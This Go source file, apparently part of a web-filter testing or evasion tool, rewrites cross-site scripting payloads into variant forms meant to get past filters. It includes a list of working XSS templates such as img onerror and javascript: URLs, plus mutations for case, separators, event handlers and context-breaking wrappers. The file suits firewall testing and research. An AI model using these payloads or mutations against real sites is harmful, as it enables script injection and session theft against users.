package evasion

import (
	"math/rand/v2"
	"regexp"
	"strings"
)

var xssClass = []string{"xss"}

// xssMutations keep what a browser runs (HTML sections 13.2.5 and 8.1.8).
var xssMutations = Suite{
	onPayload("html-case", xssClass, htmlCase),
	onPayload("html-separator", xssClass, htmlSeparator),
	onPayload("html-equals", xssClass, htmlEquals),
	onPayload("html-quote", xssClass, htmlQuote),
	onPayload("html-template", xssClass, htmlTemplate),
	onPayload("html-entity", xssClass, htmlEntity),
	onPayload("html-event", xssClass, htmlEvent),
	onPayload("html-wrap", xssClass, htmlWrap),
	onPayload("html-unclosed", xssClass, htmlUnclosed),
	onPayload("html-attribute", xssClass, htmlAttribute),
	onPayload("html-prose", xssClass, htmlProse),
	onPayload("js-url", xssClass, jsURL),
}

var (
	htmlTag       = regexp.MustCompile(`</?[a-zA-Z][\w-]*`)
	htmlHandler   = regexp.MustCompile(`(?i)[\s/"'](on[a-z]{3,30})[\s]*=`)
	htmlURLName   = regexp.MustCompile(`(?i)\b(href|src|action|formaction|data|xlink:href|style|to|from|values|srcdoc|content)\s*=`)
	htmlTagGap    = regexp.MustCompile(`<[a-zA-Z][\w-]*([\s/]+)[a-zA-Z]`)
	htmlHandled   = regexp.MustCompile(`(?is)[\s/"']on[a-z]{3,30}\s*=\s*("[^"]*"|'[^']*'|[^\s"'>][^\s>]*)`)
	htmlURL       = regexp.MustCompile(`(?is)\b(?:href|src|action|formaction|data|xlink:href|to|from|values)\s*=\s*("[^"]*"|'[^']*'|[^\s"'>][^\s>]*)`)
	htmlScript    = regexp.MustCompile(`(?is)<script[^>]*>(.+?)</script`)
	htmlScripting = regexp.MustCompile(`(?i)javascript:`)
)

// groups returns the spans of a group in all matches.
func groups(matches [][]int, group int) [][]int {
	out := make([][]int, 0, len(matches))
	for _, m := range matches {
		if m[2*group] >= 0 {
			out = append(out, m[2*group:2*group+2])
		}
	}
	return out
}

// htmlCase changes the case of the names of tags and attributes and of schemes.
func htmlCase(text string, r *rand.Rand) string {
	for _, re := range []*regexp.Regexp{htmlTag, htmlScripting} {
		text, _ = replaceSome(text, re.FindAllStringIndex(text, -1), r, 0.7, func(s string) string { return mixCase(s, r) })
	}
	for _, re := range []*regexp.Regexp{htmlHandler, htmlURLName} {
		text, _ = replaceSome(text, groups(re.FindAllStringSubmatchIndex(text, -1), 1), r, 0.7, func(s string) string { return mixCase(s, r) })
	}
	return text
}

// htmlSeparator puts other separators between a tag's name and its attributes.
func htmlSeparator(text string, r *rand.Rand) string {
	out, _ := replaceSome(text, groups(htmlTagGap.FindAllStringSubmatchIndex(text, -1), 1), r, 0.7, func(string) string {
		return pick(r, "/", "\t", "\n", "\f", "\r\n", "//", " / ", "  ", "/ \n", "\t/\t", " ")
	})
	return out
}

func htmlEquals(text string, r *rand.Rand) string {
	matches := htmlHandler.FindAllStringSubmatchIndex(text, -1)
	spans := make([][]int, 0, len(matches))
	for _, m := range matches {
		spans = append(spans, []int{m[3], m[1]})
	}
	out, _ := replaceSome(text, spans, r, 0.8, func(string) string {
		return pick(r, " =", "= ", " = ", "\n=\n", "\t=", "=\t", "\f=\f", "=\r\n", "   =", "=")
	})
	return out
}

// codeOf finds the script that a payload runs.
func codeOf(text string) string {
	if m := htmlScript.FindStringSubmatch(text); m != nil {
		return strings.TrimSpace(m[1])
	}
	if m := htmlHandled.FindStringSubmatch(text); m != nil {
		return unquote(m[1])
	}
	if m := htmlURL.FindStringSubmatch(text); m != nil {
		if value := unquote(m[1]); len(value) > 11 && strings.EqualFold(value[:11], "javascript:") {
			return value[11:]
		}
	}
	return ""
}

// htmlTemplates run a script without anybody doing anything, or with a click
// on a link. $ is the script, quoted as an attribute's value; % is it bare.
var htmlTemplates = []string{
	"<img src=x onerror=$>", "<svg onload=$>", "<body onload=$>", "<video src=x onerror=$>", "<audio src=x onerror=$>", "<input autofocus onfocus=$>",
	"<details open ontoggle=$>", "<marquee onstart=$>", "<select autofocus onfocus=$>", "<textarea autofocus onfocus=$>", "<style onload=$></style>",
	"<script>%</script>", "<svg><script>%</script></svg>", "<svg><animate onbegin=$ attributeName=x dur=1s>", "<video><source onerror=$></video>", "<iframe onload=$></iframe>",
	"<object data=x onerror=$></object>", "<p tabindex=1 autofocus onfocus=$>", "<h1 contenteditable autofocus onfocus=$>", "<img srcset=x onerror=$>", "<link rel=stylesheet href=x onerror=$>",
	"<image src=x onerror=$>", "<div style=animation-name:x onanimationstart=$></div><style>@keyframes x{}</style>", "<svg><set onbegin=$ attributename=x dur=1s>", "<embed src=x onerror=$>",
	"<a href=javascript:%>click</a>", "<form action=javascript:%><button>go</button></form>", "<iframe src=javascript:%></iframe>", "<x onclick=$>click</x>", "<b onmouseover=$>here</b>",
	"<frameset onpageshow=$>", "<dialog open onfocusin=$ tabindex=0 autofocus></dialog>",
}

// htmlTemplate puts the script into another element.
func htmlTemplate(text string, r *rand.Rand) string {
	code := codeOf(text)
	start := strings.IndexByte(text, '<')
	if code == "" || start < 0 || len(code) > 400 {
		return text
	}
	template := pick(r, htmlTemplates...)
	out := ""
	switch {
	case strings.Contains(template, "$"):
		quoted := quoteHTML(code, r)
		if quoted == "" {
			quoted = `"` + strings.ReplaceAll(code, `"`, "&quot;") + `"`
		}
		out = strings.Replace(template, "$", quoted, 1)
	case strings.Contains(template, "javascript:%"):
		if strings.ContainsAny(code, " \t\n\"'><`") {
			return text
		}
		out = strings.Replace(template, "%", code, 1)
	default:
		if strings.Contains(code, "&") || strings.Contains(code, "<") {
			return text
		}
		out = strings.Replace(template, "%", code, 1)
	}
	if prefix := text[:start]; len(prefix) < 20 { // what closes the surrounding context
		out = prefix + out
	}
	return out
}

// htmlEvent uses another event of the same kind: one that a pointer, a focus
// or a key sets off.
func htmlEvent(text string, r *rand.Rand) string {
	families := []string{
		"onclick ondblclick onmousedown onmouseup onmouseover onmouseenter onmousemove onmouseout onpointerdown onpointerup onpointerover onpointerenter onpointermove onauxclick oncontextmenu onmouseleave onpointerrawupdate",
		"onfocus onfocusin", "onkeydown onkeyup onkeypress", "onload onpageshow", "oncopy oncut onpaste onbeforecopy onbeforecut onbeforepaste",
	}
	m := htmlHandler.FindStringSubmatchIndex(text)
	if m == nil {
		return text
	}
	for _, f := range families {
		events := strings.Fields(f)
		for _, e := range events {
			if strings.EqualFold(e, text[m[2]:m[3]]) {
				return text[:m[2]] + pick(r, events...) + text[m[3]:]
			}
		}
	}
	return text
}

// htmlWrap puts the element behind the end of another one or into one.
func htmlWrap(text string, r *rand.Rand) string {
	if !strings.HasPrefix(strings.TrimSpace(text), "<") || len(text) > 4000 {
		return text
	}
	return pick(r, `">`+text, `'>`+text, "</title>"+text, "</textarea>"+text, "</style>"+text, "</script>"+text, "--></p>"+text, "<b>"+text+"</b>", "<div class=\"x\">"+text+"</div>",
		"<p>"+text, "<math><mtext>"+text, "<!-- -->"+text, `"/>`+text, "<svg>"+text, "<table><tr><td>"+text, "</option></select>"+text, "</noscript>"+text, "<"+name(r)+">"+text, "<!--x-->"+text+"<!--", "< "+text, "<<"+text[1:])
}

// htmlUnclosed leaves the end of the last tag to the page.
func htmlUnclosed(text string, r *rand.Rand) string {
	m := regexpLastTag.FindStringIndex(text)
	if m == nil || !strings.HasSuffix(text, ">") || strings.Contains(strings.ToLower(text), "<script") || strings.HasPrefix(text[m[0]:], "</") {
		return text
	}
	return text[:len(text)-1] + pick(r, " ", " x=", " //", " /", " a=\"", " <", "\n")
}

var regexpLastTag = regexp.MustCompile(`<[^<>]*>$`)

// htmlAttribute puts harmless attributes before the others.
func htmlAttribute(text string, r *rand.Rand) string {
	matches := groups(htmlTagGap.FindAllStringSubmatchIndex(text, -1), 1)
	out, _ := replaceSome(text, matches, r, 0.3, func(string) string {
		var b strings.Builder
		for range 1 + r.IntN(3) {
			b.WriteString(" " + pick(r, "class="+name(r), `id="`+name(r)+`"`, `title="`+prose(r, 1+r.IntN(5))+`"`, "data-"+name(r)+"='"+prose(r, 2)+"'", "style=color:red", "hidden=false", "lang=en",
				`alt="`+prose(r, 3)+`"`, name(r), `title=">"`, "width=100", `x="`+"`"+`"`))
		}
		return b.String() + " "
	})
	return out
}

// htmlProse puts text around an element.
func htmlProse(text string, r *rand.Rand) string {
	if !strings.HasPrefix(strings.TrimSpace(text), "<") || len(text) > 4000 {
		return text
	}
	return pick(r, prose(r, 1+r.IntN(12))+" "+text, text+" "+prose(r, 1+r.IntN(12)), prose(r, 3)+text+prose(r, 3), name(r)+text)
}
